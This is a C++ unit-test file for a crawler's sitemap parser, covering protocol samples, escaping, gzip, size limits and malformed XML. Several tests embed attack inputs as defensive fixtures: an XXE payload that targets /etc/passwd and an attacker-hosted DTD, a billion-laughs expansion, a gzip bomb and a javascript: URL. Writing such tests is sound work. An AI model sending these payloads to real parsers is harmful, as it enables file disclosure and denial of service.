#include "crawl/sitemap.h"

#include <gtest/gtest.h>

#include <chrono>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "crawl/xml_reader.h"
#include "tests/support/gzip.h"

namespace riptide::crawl {
namespace {

using testing::gzip;
using testing::gzip_repeated;

// The sitemaps.org protocol page's sample sitemap ("Sample XML Sitemap").
constexpr std::string_view kProtocolUrlset = R"(<?xml version="1.0" encoding="UTF-8"?>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
   <url>
      <loc>http://www.example.com/</loc>
      <lastmod>2005-01-01</lastmod>
      <changefreq>monthly</changefreq>
      <priority>0.8</priority>
   </url>
   <url>
      <loc>http://www.example.com/catalog?item=12&amp;desc=vacation_hawaii</loc>
      <changefreq>weekly</changefreq>
   </url>
   <url>
      <loc>http://www.example.com/catalog?item=73&amp;desc=vacation_new_zealand</loc>
      <lastmod>2004-12-23</lastmod>
      <changefreq>weekly</changefreq>
   </url>
   <url>
      <loc>http://www.example.com/catalog?item=74&amp;desc=vacation_newfoundland</loc>
      <lastmod>2004-12-23T18:00:15+00:00</lastmod>
      <priority>0.3</priority>
   </url>
   <url>
      <loc>http://www.example.com/catalog?item=83&amp;desc=vacation_usa</loc>
      <lastmod>2004-11-23</lastmod>
   </url>
</urlset>
)";

// The protocol page's sample index ("Sample XML Sitemap Index").
constexpr std::string_view kProtocolIndex = R"(<?xml version="1.0" encoding="UTF-8"?>
<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
   <sitemap>
      <loc>http://www.example.com/sitemap1.xml.gz</loc>
      <lastmod>2004-10-01T18:23:17+00:00</lastmod>
   </sitemap>
   <sitemap>
      <loc>http://www.example.com/sitemap2.xml.gz</loc>
      <lastmod>2005-01-01</lastmod>
   </sitemap>
</sitemapindex>
)";

Sitemap parse_ok(std::string_view body) {
  Result<Sitemap> sitemap = parse_sitemap(body);
  EXPECT_TRUE(sitemap.ok()) << sitemap.error().to_string();
  return sitemap.ok() ? std::move(sitemap).value() : Sitemap{};
}

std::vector<std::string> urls_of(const Sitemap& sitemap) {
  std::vector<std::string> urls;
  for (const SitemapEntry& entry : sitemap.entries) urls.push_back(entry.url);
  return urls;
}

std::string urlset(std::string_view urls_xml) {
  return "<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">" + std::string(urls_xml) +
         "</urlset>";
}

TEST(SitemapTest, ProtocolSampleUrlset) {
  Sitemap sitemap = parse_ok(kProtocolUrlset);
  EXPECT_EQ(sitemap.kind, SitemapKind::kUrlset);
  EXPECT_EQ(sitemap.skipped, 0u);
  EXPECT_FALSE(sitemap.truncated);
  ASSERT_EQ(sitemap.entries.size(), 5u);
  EXPECT_EQ(urls_of(sitemap),
            (std::vector<std::string>{
                "http://www.example.com/",
                "http://www.example.com/catalog?item=12&desc=vacation_hawaii",
                "http://www.example.com/catalog?item=73&desc=vacation_new_zealand",
                "http://www.example.com/catalog?item=74&desc=vacation_newfoundland",
                "http://www.example.com/catalog?item=83&desc=vacation_usa",
            }));
  const SitemapEntry& first = sitemap.entries[0];
  EXPECT_EQ(first.lastmod, "2005-01-01");
  EXPECT_EQ(first.changefreq, ChangeFrequency::kMonthly);
  ASSERT_TRUE(first.priority.has_value());
  EXPECT_DOUBLE_EQ(*first.priority, 0.8);
  EXPECT_EQ(sitemap.entries[1].lastmod, "");
  EXPECT_FALSE(sitemap.entries[1].priority.has_value());
  EXPECT_EQ(sitemap.entries[1].changefreq, ChangeFrequency::kWeekly);
  EXPECT_EQ(sitemap.entries[3].lastmod, "2004-12-23T18:00:15+00:00");
  EXPECT_DOUBLE_EQ(sitemap.entries[3].priority.value_or(-1), 0.3);
  EXPECT_EQ(sitemap.entries[4].changefreq, ChangeFrequency::kUnspecified);
}

TEST(SitemapTest, ProtocolSampleIndex) {
  Sitemap sitemap = parse_ok(kProtocolIndex);
  EXPECT_EQ(sitemap.kind, SitemapKind::kIndex);
  ASSERT_EQ(sitemap.entries.size(), 2u);
  EXPECT_EQ(sitemap.entries[0].url, "http://www.example.com/sitemap1.xml.gz");
  EXPECT_EQ(sitemap.entries[0].lastmod, "2004-10-01T18:23:17+00:00");
  EXPECT_EQ(sitemap.entries[1].url, "http://www.example.com/sitemap2.xml.gz");
  EXPECT_EQ(sitemap.entries[1].lastmod, "2005-01-01");
}

TEST(SitemapTest, IndexIgnoresUrlsetOnlyFieldsAndUrlElements) {
  Sitemap sitemap = parse_ok(
      "<sitemapindex><sitemap><loc>https://a.example/s1.xml</loc><priority>0.9</priority>"
      "<changefreq>daily</changefreq></sitemap>"
      "<url><loc>https://a.example/page</loc></url></sitemapindex>");
  ASSERT_EQ(urls_of(sitemap), std::vector<std::string>{"https://a.example/s1.xml"});
  EXPECT_FALSE(sitemap.entries[0].priority.has_value());
  EXPECT_EQ(sitemap.entries[0].changefreq, ChangeFrequency::kUnspecified);
  EXPECT_EQ(sitemap.skipped, 0u);  // <url> is not an index entry at all
}

// The protocol's "Entity escaping" section: non-ASCII must be percent-encoded and '&' escaped;
// an unencoded character still yields the same URL through the URL parser.
TEST(SitemapTest, ProtocolEntityEscapingExample) {
  Sitemap escaped =
      parse_ok(urlset("<url><loc>http://www.example.com/%C3%BCmlat.php&amp;q=name</loc></url>"));
  Sitemap raw =
      parse_ok(urlset("<url><loc>http://www.example.com/ümlat.php&amp;q=name</loc></url>"));
  EXPECT_EQ(urls_of(escaped),
            std::vector<std::string>{"http://www.example.com/%C3%BCmlat.php&q=name"});
  EXPECT_EQ(urls_of(raw), urls_of(escaped));
}

TEST(SitemapTest, PredefinedAndNumericEntities) {
  Sitemap sitemap =
      parse_ok(urlset("<url><loc>https://e.example/"
                      "a&#x2F;b&#47;c?q=&quot;x&quot;&amp;r=&apos;y&apos;&amp;s=&lt;&gt;"
                      "</loc></url>"
                      "<url><loc>https://e.example/&#233;t&#xE9;</loc></url>"));
  EXPECT_EQ(urls_of(sitemap), (std::vector<std::string>{
                                  "https://e.example/a/b/c?q=%22x%22&r=%27y%27&s=%3C%3E",
                                  "https://e.example/%C3%A9t%C3%A9",
                              }));
}

// Real sitemaps often leave '&' in URLs unescaped; a '&' that starts no known reference is text.
TEST(SitemapTest, BareAmpersandIsKept) {
  Sitemap sitemap = parse_ok(urlset("<url><loc>https://e.example/?a=1&b=2&c</loc></url>"));
  EXPECT_EQ(urls_of(sitemap), std::vector<std::string>{"https://e.example/?a=1&b=2&c"});
}

TEST(SitemapTest, CdataAndMixedText) {
  Sitemap sitemap =
      parse_ok(urlset("<url><loc><![CDATA[https://e.example/x?a=1&b=<2>]]></loc></url>"
                      "<url><loc>https://e.example/<!-- note -->y<![CDATA[/z]]></loc></url>"));
  EXPECT_EQ(urls_of(sitemap), (std::vector<std::string>{
                                  "https://e.example/x?a=1&b=%3C2%3E",
                                  "https://e.example/y/z",
                              }));
}

TEST(SitemapTest, WhitespaceAroundLocIsTrimmed) {
  Sitemap sitemap = parse_ok(
      urlset("<url><loc>\n\t   https://e.example/page  \r\n</loc><lastmod> 2024-02-29 </lastmod>"
             "<priority>\n1.0\n</priority><changefreq> Daily </changefreq></url>"));
  ASSERT_EQ(urls_of(sitemap), std::vector<std::string>{"https://e.example/page"});
  EXPECT_EQ(sitemap.entries[0].lastmod, "2024-02-29");
  EXPECT_DOUBLE_EQ(sitemap.entries[0].priority.value_or(-1), 1.0);
  EXPECT_EQ(sitemap.entries[0].changefreq, ChangeFrequency::kDaily);
}

TEST(SitemapTest, InvalidEntriesAreSkippedAndCounted) {
  Sitemap sitemap =
      parse_ok(urlset("<url><loc>/relative/path</loc></url>"
                      "<url><loc>page.html</loc></url>"
                      "<url><loc></loc></url>"
                      "<url><lastmod>2020-01-01</lastmod></url>"  // no <loc>
                      "<url><loc>ftp://e.example/file</loc></url>"
                      "<url><loc>javascript:alert(1)</loc></url>"
                      "<url><loc>http://[::1</loc></url>"
                      "<url><loc>https://e.example/a</loc><loc>https://e.example/b</loc></url>"
                      "<url><loc>https://e.example/good</loc></url>"
                      "<url><loc>HTTPS://E.EXAMPLE:443/./x/../Good2</loc></url>"));
  EXPECT_EQ(urls_of(sitemap),
            (std::vector<std::string>{"https://e.example/good", "https://e.example/Good2"}));
  EXPECT_EQ(sitemap.skipped, 8u);
}

TEST(SitemapTest, OverlongLocIsSkipped) {
  std::string loc = "https://e.example/" + std::string(100'000, 'a');
  Sitemap sitemap = parse_ok(urlset("<url><loc>" + loc + "</loc></url>"));
  EXPECT_TRUE(sitemap.entries.empty());
  EXPECT_EQ(sitemap.skipped, 1u);
}

TEST(SitemapTest, FieldValidation) {
  struct Case {
    std::string_view lastmod;
    std::string_view priority;
    std::string_view changefreq;
    std::string_view want_lastmod;
    std::optional<double> want_priority;
    ChangeFrequency want_changefreq;
  };
  const Case cases[] = {
      {"2004", "0", "always", "2004", 0.0, ChangeFrequency::kAlways},
      {"2004-12", ".5", "hourly", "2004-12", 0.5, ChangeFrequency::kHourly},
      {"2004-12-23T18:00Z", "1", "never", "2004-12-23T18:00Z", 1.0, ChangeFrequency::kNever},
      {"2004-12-23T18:00:15.25-05:30", "0.25", "YEARLY", "2004-12-23T18:00:15.25-05:30", 0.25,
       ChangeFrequency::kYearly},
      {"2004-13-01", "1.5", "sometimes", "", std::nullopt, ChangeFrequency::kUnspecified},
      {"2004-12-23 18:00:15", "-0.1", "", "", std::nullopt, ChangeFrequency::kUnspecified},
      {"2004-12-23T18:00:15", "1e-1", "weekly,", "", std::nullopt, ChangeFrequency::kUnspecified},
      {"2004-12-23T24:00Z", "0.5.1", "monthly", "", std::nullopt, ChangeFrequency::kMonthly},
      {"yesterday", "high", "weekly", "", std::nullopt, ChangeFrequency::kWeekly},
      {"2004-12-23T18:00+0100", "nan", "daily", "", std::nullopt, ChangeFrequency::kDaily},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(std::string(c.lastmod) + " " + std::string(c.priority));
    Sitemap sitemap = parse_ok(urlset("<url><loc>https://e.example/</loc><lastmod>" +
                                      std::string(c.lastmod) + "</lastmod><priority>" +
                                      std::string(c.priority) + "</priority><changefreq>" +
                                      std::string(c.changefreq) + "</changefreq></url>"));
    // A bad optional field never costs the URL.
    ASSERT_EQ(sitemap.entries.size(), 1u);
    EXPECT_EQ(sitemap.entries[0].lastmod, c.want_lastmod);
    EXPECT_EQ(sitemap.entries[0].priority, c.want_priority);
    EXPECT_EQ(sitemap.entries[0].changefreq, c.want_changefreq);
  }
}

// Namespaces are matched by local name; extension elements (images, alternates, news) and their
// own <loc> children are not entries.
TEST(SitemapTest, PrefixedNamesAndExtensionsIgnored) {
  Sitemap sitemap = parse_ok(
      R"(<?xml version="1.0"?>
<sm:urlset xmlns:sm="http://www.sitemaps.org/schemas/sitemap/0.9"
    xmlns:image="http://www.google.com/schemas/sitemap-image/1.1"
    xmlns:xhtml='http://www.w3.org/1999/xhtml'>
  <sm:url>
    <sm:loc>https://e.example/page</sm:loc>
    <image:image><image:loc>https://cdn.example/photo.jpg</image:loc></image:image>
    <xhtml:link rel="alternate" hreflang="de" href="https://e.example/de/page"/>
  </sm:url>
  <sm:other><sm:loc>https://e.example/not-an-entry</sm:loc></sm:other>
</sm:urlset>)");
  EXPECT_EQ(urls_of(sitemap), std::vector<std::string>{"https://e.example/page"});
  EXPECT_EQ(sitemap.skipped, 0u);
}

TEST(SitemapTest, ByteOrderMarkAndLeadingWhitespace) {
  EXPECT_EQ(parse_ok("\xEF\xBB\xBF\n  " + std::string(kProtocolIndex)).entries.size(), 2u);
  EXPECT_EQ(parse_ok("\xEF\xBB\xBFhttps://e.example/a\n").entries.size(), 1u);
}

TEST(SitemapTest, PlainText) {
  Sitemap sitemap = parse_ok(
      "https://e.example/one\r\n"
      "\n"
      "   http://e.example/two?x=1&y=2   \n"
      "not a url\n"
      "/relative\n"
      "mailto:someone@e.example\n"
      "\t\r\n"
      "https://e.example/three");
  EXPECT_EQ(sitemap.kind, SitemapKind::kText);
  EXPECT_EQ(urls_of(sitemap),
            (std::vector<std::string>{"https://e.example/one", "http://e.example/two?x=1&y=2",
                                      "https://e.example/three"}));
  EXPECT_EQ(sitemap.skipped, 3u);
  EXPECT_FALSE(sitemap.truncated);
}

TEST(SitemapTest, GzipIsDetectedByMagicBytes) {
  Sitemap plain = parse_ok(kProtocolUrlset);
  Sitemap gzipped = parse_ok(gzip(kProtocolUrlset));
  EXPECT_EQ(urls_of(gzipped), urls_of(plain));
  EXPECT_EQ(parse_ok(gzip("https://e.example/a\nhttps://e.example/b\n")).kind, SitemapKind::kText);
  // RFC 1952: a gzip file may hold several members, read one after the other.
  std::string two_members = gzip("https://e.example/a\n") + gzip("https://e.example/b\n");
  EXPECT_EQ(urls_of(parse_ok(two_members)),
            (std::vector<std::string>{"https://e.example/a", "https://e.example/b"}));
}

TEST(SitemapTest, CorruptOrTruncatedGzipIsAnError) {
  std::string compressed = gzip(kProtocolUrlset);
  Result<Sitemap> truncated = parse_sitemap(std::string_view(compressed).substr(0, 40));
  ASSERT_FALSE(truncated.ok());
  EXPECT_EQ(truncated.error().code(), ErrorCode::kInvalidInput);
  EXPECT_NE(truncated.error().message().find("truncated gzip"), std::string::npos)
      << truncated.error().message();

  std::string corrupt = compressed;
  for (size_t i = 12; i < 40; ++i) corrupt[i] = static_cast<char>(corrupt[i] ^ 0x5a);
  Result<Sitemap> bad = parse_sitemap(corrupt);
  ASSERT_FALSE(bad.ok());
  EXPECT_EQ(bad.error().code(), ErrorCode::kInvalidInput);
  EXPECT_NE(bad.error().message().find("gzip"), std::string::npos) << bad.error().message();

  Result<Sitemap> magic_only = parse_sitemap("\x1f\x8b");
  ASSERT_FALSE(magic_only.ok());
  EXPECT_EQ(magic_only.error().code(), ErrorCode::kInvalidInput);
}

// A small gzip body that inflates past the protocol's 50 MB: refused once the output passes the
// cap, not after inflating all of it.
TEST(SitemapTest, GzipBombIsRefused) {
  const std::string megabyte(1 << 20, ' ');
  std::string bomb = gzip_repeated(megabyte, 64);  // 64 MiB of spaces
  ASSERT_LT(bomb.size(), 512u * 1024);
  auto start = std::chrono::steady_clock::now();
  Result<Sitemap> sitemap = parse_sitemap(bomb);
  auto elapsed = std::chrono::steady_clock::now() - start;
  ASSERT_FALSE(sitemap.ok());
  EXPECT_EQ(sitemap.error().code(), ErrorCode::kResourceLimit);
  EXPECT_NE(sitemap.error().message().find(std::to_string(kMaxSitemapBytes)), std::string::npos)
      << sitemap.error().message();
  EXPECT_LT(elapsed, std::chrono::seconds(5));

  // Exactly at the cap is still a sitemap (here an empty one), one byte more is not.
  Result<std::string> at_cap =
      gunzip(gzip_repeated(std::string(1024, ' '), 50 * 1024), kMaxSitemapBytes);
  ASSERT_TRUE(at_cap.ok()) << at_cap.error().to_string();
  EXPECT_EQ(at_cap->size(), kMaxSitemapBytes);
  Result<std::string> past_cap = gunzip(gzip(std::string(1001, 'x')), 1000);
  ASSERT_FALSE(past_cap.ok());
  EXPECT_EQ(past_cap.error().code(), ErrorCode::kResourceLimit);
}

TEST(SitemapTest, UncompressedBodyPastTheLimitIsRefused) {
  std::string body = "https://e.example/\n" + std::string(kMaxSitemapBytes, ' ');
  Result<Sitemap> sitemap = parse_sitemap(body);
  ASSERT_FALSE(sitemap.ok());
  EXPECT_EQ(sitemap.error().code(), ErrorCode::kResourceLimit);
}

TEST(SitemapTest, MoreThanFiftyThousandUrlsIsTruncated) {
  std::string xml;
  std::string text;
  for (size_t i = 0; i < kMaxSitemapUrls + 2; ++i) {
    std::string url = "https://e.example/p" + std::to_string(i);
    xml += "<url><loc>" + url + "</loc></url>\n";
    text += url + "\n";
  }
  for (const std::string& body : {urlset(xml), text}) {
    Sitemap sitemap = parse_ok(body);
    ASSERT_EQ(sitemap.entries.size(), kMaxSitemapUrls);
    EXPECT_TRUE(sitemap.truncated);
    EXPECT_EQ(sitemap.entries.back().url,
              "https://e.example/p" + std::to_string(kMaxSitemapUrls - 1));
  }
  // Exactly the limit is complete.
  std::string exact;
  for (size_t i = 0; i < kMaxSitemapUrls; ++i) exact += "https://e.example/p\n";
  Sitemap full = parse_ok(exact);
  EXPECT_EQ(full.entries.size(), kMaxSitemapUrls);
  EXPECT_FALSE(full.truncated);
}

TEST(SitemapTest, NotASitemapIsAnError) {
  const std::string_view bodies[] = {
      "<!DOCTYPE html><html><head><title>404</title></head><body>Not found</body></html>",
      "<?xml version=\"1.0\"?><rss version=\"2.0\"><channel></channel></rss>",
  };
  for (std::string_view body : bodies) {
    Result<Sitemap> sitemap = parse_sitemap(body);
    ASSERT_FALSE(sitemap.ok()) << body;
    EXPECT_EQ(sitemap.error().code(), ErrorCode::kInvalidInput);
    EXPECT_NE(sitemap.error().message().find("not a sitemap"), std::string::npos)
        << sitemap.error().message();
  }
  for (std::string_view body : {"", " \r\n\t", "\xEF\xBB\xBF"}) {
    Result<Sitemap> sitemap = parse_sitemap(body);
    ASSERT_FALSE(sitemap.ok());
    EXPECT_EQ(sitemap.error().code(), ErrorCode::kInvalidInput);
  }
}

TEST(SitemapTest, MalformedXmlIsAClearError) {
  struct Case {
    std::string_view body;
    std::string_view message;  // part of the error message
  };
  const Case cases[] = {
      {"<urlset><url><loc>https://e.example/</loc></url>", "end of document inside <urlset>"},
      {"<urlset><url><loc>https://e.example/</url></urlset>",
       "end tag </url> does not match <loc>"},
      {"<urlset></urlset></urlset>", "does not match any open element"},
      {"<urlset></urlset><urlset></urlset>", "second root element"},
      {"<urlset></urlset>trailing", "text after the root element"},
      {"<urlset xmlns=http://x></urlset>", "not quoted"},
      {"<urlset xmlns=\"http://x></urlset>", "unterminated attribute value"},
      {"<urlset a='1'b='2'></urlset>", "missing whitespace"},
      {"<urlset><!-- open comment </urlset>", "unterminated comment"},
      {"<urlset><url><loc><![CDATA[x</loc></url></urlset>", "unterminated CDATA"},
      {"<urlset><url><loc>&#0;</loc></url></urlset>", "character XML forbids"},
      {"<urlset><url><loc>&#xD800;</loc></url></urlset>", "character XML forbids"},
      {"<urlset><url><loc>&#x110000;</loc></url></urlset>", "character XML forbids"},
      {"<urlset><url><loc>&#xZZ;</loc></url></urlset>", "malformed character reference"},
      {"<urlset><url><loc>&#12345678901;</loc></url></urlset>", "malformed character reference"},
      {"<urlset><url", "unexpected end of document in a tag"},
      {"<urlset>< url></url></urlset>", "not followed by an element name"},
      {"<urlset><!ELEMENT x ANY></urlset>", "not followed by an element name"},
      {"<urlset><url:></url:></urlset>", "element name <url:> has no local part"},
      {"<urlset></urlset><!DOCTYPE urlset>", "must precede the root"},
      {"<?xml version='1.0'", "unterminated processing instruction"},
  };
  for (const Case& c : cases) {
    Result<Sitemap> sitemap = parse_sitemap(c.body);
    ASSERT_FALSE(sitemap.ok()) << c.body;
    EXPECT_EQ(sitemap.error().code(), ErrorCode::kParseError) << c.body;
    EXPECT_NE(sitemap.error().message().find(c.message), std::string::npos)
        << c.body << " -> " << sitemap.error().message();
    EXPECT_TRUE(sitemap.error().message().starts_with("sitemap: XML line 1, column "))
        << sitemap.error().message();
  }
}

TEST(SitemapTest, ErrorNamesLineAndColumn) {
  Result<Sitemap> sitemap = parse_sitemap("<urlset>\n  <url>\n    <loc>x</lo>\n</urlset>");
  ASSERT_FALSE(sitemap.ok());
  EXPECT_EQ(sitemap.error().message(),
            "sitemap: XML line 3, column 11: end tag </lo> does not match <loc>");
}

TEST(SitemapTest, DeepNestingIsALimitNotACrash) {
  std::string body = "<urlset>";
  for (int i = 0; i < 10'000; ++i) body += "<a>";
  Result<Sitemap> sitemap = parse_sitemap(body);
  ASSERT_FALSE(sitemap.ok());
  EXPECT_EQ(sitemap.error().code(), ErrorCode::kResourceLimit);
}

// XXE: the DOCTYPE is skipped unread, so an external entity is neither fetched nor expanded and
// its reference stays literal text.
TEST(SitemapTest, ExternalEntitiesAreNeverExpanded) {
  Sitemap sitemap = parse_ok(R"(<?xml version="1.0"?>
<!DOCTYPE urlset [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
  <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;
  <!-- a comment with > and ] inside -->
]>
<urlset>
  <url><loc>&xxe;</loc></url>
  <url><loc>https://e.example/&xxe;</loc></url>
</urlset>)");
  EXPECT_EQ(urls_of(sitemap), std::vector<std::string>{"https://e.example/&xxe;"});
  EXPECT_EQ(sitemap.skipped, 1u);
}

// Billion laughs: ten levels of ten-fold entities would expand to 10^9 "lol"s; here the body is
// read as the few bytes it is.
TEST(SitemapTest, BillionLaughsIsJustText) {
  std::string body = "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n";
  for (int level = 1; level <= 9; ++level) {
    body += " <!ENTITY lol" + std::to_string(level) + " \"";
    for (int i = 0; i < 10; ++i) {
      body += "&lol" + (level == 1 ? std::string() : std::to_string(level - 1)) + ";";
    }
    body += "\">\n";
  }
  body += "]>\n<urlset><url><loc>https://e.example/&lol9;</loc></url></urlset>";
  Sitemap sitemap = parse_ok(body);
  EXPECT_EQ(urls_of(sitemap), std::vector<std::string>{"https://e.example/&lol9;"});
}

TEST(XmlReaderTest, EventSequence) {
  XmlReader reader(
      "<?xml version='1.0'?><!-- c --><a:root x=\"1\" y='>'><b/>t&amp;u<![CDATA[<v>]]></a:root>");
  std::vector<std::string> events;
  while (true) {
    Result<XmlEvent> event = reader.next();
    ASSERT_TRUE(event.ok()) << event.error().to_string();
    if (event->type == XmlEventType::kEndOfDocument) break;
    switch (event->type) {
      case XmlEventType::kStartElement:
        events.push_back("start " + std::string(event->name) + " " +
                         std::string(event->local_name) + " " + std::to_string(reader.depth()));
        break;
      case XmlEventType::kEndElement:
        events.push_back("end " + std::string(event->local_name) + " " +
                         std::to_string(reader.depth()));
        break;
      case XmlEventType::kText:
        events.push_back("text " + std::string(event->text));
        break;
      case XmlEventType::kEndOfDocument:
        break;
    }
  }
  EXPECT_EQ(events, (std::vector<std::string>{"start a:root root 1", "start b b 2", "end b 1",
                                              "text t&u", "text <v>", "end root 0"}));
  // After the end, and after an error, the reader keeps answering the same.
  EXPECT_EQ(reader.next()->type, XmlEventType::kEndOfDocument);
  XmlReader broken("<a></b>");
  ASSERT_TRUE(broken.next().ok());
  EXPECT_FALSE(broken.next().ok());
  EXPECT_FALSE(broken.next().ok());
}

}  // namespace
}  // namespace riptide::crawl
